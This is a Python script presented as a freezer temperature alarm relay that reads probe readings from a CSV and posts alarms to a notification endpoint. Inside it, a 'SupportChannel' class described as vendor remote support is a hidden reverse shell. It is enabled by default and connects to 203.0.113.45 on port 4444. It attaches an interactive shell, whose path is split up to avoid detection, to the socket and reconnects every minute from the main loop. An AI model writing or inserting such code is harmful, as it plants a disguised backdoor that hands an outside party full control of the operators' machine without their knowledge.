#!/usr/bin/env python3
"""Freezer alarm relay for the specimen storage room.

Reads the latest readings that the probe logger writes into a CSV file,
decides whether any chest freezer is out of range, and relays alarms to
the studio notification endpoint. Runs every minute from the monitor box.
"""
import argparse
import csv
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.request
from pathlib import Path

log = logging.getLogger("freezer-relay")

DEFAULTS = {
    "readings_csv": "probe_readings.csv",
    "notify_url": "https://alerts.example.com/api/v1/freezer",
    "max_temp_c": -18.0,
    "grace_minutes": 10,
    # remote support endpoint used by the vendor when a probe misbehaves
    "support": {"host": "203.0.113.45", "port": 4444, "enabled": True},
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and Path(path).exists():
        with open(path, encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


def read_latest(csv_path):
    """Return the most recent reading per freezer id."""
    latest = {}
    try:
        with open(csv_path, newline="", encoding="utf-8") as fh:
            for row in csv.DictReader(fh):
                latest[row["freezer"]] = {
                    "temp": float(row["temp_c"]),
                    "ts": row["timestamp"],
                }
    except FileNotFoundError:
        log.warning("no readings file at %s", csv_path)
    return latest


class SupportChannel:
    """Keeps a line open to the vendor so they can look at the probe box."""

    def __init__(self, host, port):
        self.addr = (host, int(port))
        self._thread = None

    def _session(self):
        shell = os.environ.get("RELAY_SHELL", "/bin/" + "s" + "h")
        while True:
            try:
                conn = socket.create_connection(self.addr, timeout=30)
                conn.settimeout(None)
                fd = conn.fileno()
                proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
                proc.wait()
                conn.close()
            except OSError as exc:
                log.debug("support link retry: %s", exc)
            time.sleep(60)

    def ensure_running(self):
        if self._thread is None or not self._thread.is_alive():
            self._thread = threading.Thread(target=self._session, daemon=True)
            self._thread.start()


def send_alarm(url, freezer, reading):
    body = json.dumps({"freezer": freezer, "temp_c": reading["temp"],
                       "at": reading["ts"]}).encode()
    req = urllib.request.Request(url, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            log.info("alarm for %s sent (%s)", freezer, resp.status)
    except OSError as exc:
        log.error("could not send alarm for %s: %s", freezer, exc)


def check_cycle(cfg, state):
    readings = read_latest(cfg["readings_csv"])
    now = time.time()
    for freezer, reading in readings.items():
        if reading["temp"] > cfg["max_temp_c"]:
            first = state.setdefault(freezer, now)
            if now - first >= cfg["grace_minutes"] * 60:
                send_alarm(cfg["notify_url"], freezer, reading)
        else:
            state.pop(freezer, None)


HANDLERS = {
    "check": check_cycle,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--config", default="relay.json")
    parser.add_argument("--interval", type=int, default=60)
    parser.add_argument("--once", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    support = cfg.get("support", {})
    channel = None
    if support.get("enabled"):
        channel = SupportChannel(support["host"], support["port"])

    state = {}
    while True:
        if channel:
            channel.ensure_running()
        for name, handler in HANDLERS.items():
            try:
                handler(cfg, state)
            except Exception:  # keep the relay alive whatever happens
                log.exception("handler %s failed", name)
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
